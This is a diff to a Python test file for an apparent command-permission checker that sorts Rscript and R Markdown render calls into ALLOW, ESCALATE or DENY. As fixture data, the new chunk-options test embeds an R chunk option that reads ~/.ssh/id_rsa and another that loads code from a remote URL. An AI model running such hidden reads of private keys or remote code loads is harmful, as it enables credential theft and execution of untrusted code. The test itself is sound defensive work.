@@ -33,6 +33,10 @@ def shown(ctx: ActionContext, code: str) -> list[str] | None:
     'library(glue)\nn <- 3\nmessage(glue("{n} 件 {format(Sys.Date())}"))',
     'stats <- sapply(c("mean", "sd"), function(f) sapply(mtcars, f))\nprint(stats)',
     'x <- r"(C:\\data)"; cat("~/.ssh/id_rsa を読まない\\n")',
+    'parts <- split(mtcars, mtcars$cyl)\npaths <- c("out/a.csv", "out/b.csv")\n'
+    'invisible(Map(function(d, p) write.csv(d, p), parts, paths))',
+    'plots <- list(monthly = 1, box = 2)\nfor (nm in names(plots)) writeLines(nm, file.path("out", paste0(nm, ".txt")))',
+    'a <- c("data/sales.csv")\nd <- read.csv(a[[1]])',
 ])
 def test_data_work_is_shown(project, code):
     ctx = project({"data/sales.csv": SALES})
@@ -128,6 +132,21 @@ def test_scripts_sourced_files_start_up_files_and_arguments(project):
     assert decide(ctx, "Rscript --vanilla dplyr.R") == "ALLOW"
     ctx = project({".Renviron": "R_LIBS_USER=./lib\n"})
     assert decide(ctx, "Rscript dplyr.R") == "ESCALATE"  # its packages would load from the project's folder
+
+
+def test_a_backslashed_dollar_in_double_quotes_is_r_s_dollar(project):
+    ctx = project({"data/sales.csv": SALES})
+    assert decide(ctx, 'Rscript -e "d <- read.csv(\'data/sales.csv\'); d\\$n <- 1; ggsave(\'~/Desktop/a.png\')"') == "ESCALATE"
+    assert decide(ctx, 'Rscript -e "d <- read.csv(\'data/sales.csv\'); d\\$n <- 1; print(d)"') == "ALLOW"
+
+
+def test_chunk_options_are_r_code(project):
+    ctx = project({"a.Rmd": '```{r setup, include=FALSE, fig.cap=readLines("~/.ssh/id_rsa")}\nx <- 1\n```\n',
+                   "b.Rmd": '```{r helpers, code=readLines("https://x.example/h.R")}\n```\n',
+                   "c.Rmd": '```{r plot, fig.width=8, echo=FALSE}\nx <- 1\n```\n'})
+    assert decide(ctx, "Rscript -e \"rmarkdown::render('a.Rmd')\"") == "DENY"
+    assert decide(ctx, "Rscript -e \"rmarkdown::render('b.Rmd')\"") == "ESCALATE"
+    assert decide(ctx, "Rscript -e \"rmarkdown::render('c.Rmd')\"") == "ALLOW"
 
 
 def test_documents_chunks_run_in_one_session_and_around_the_render_call(project):
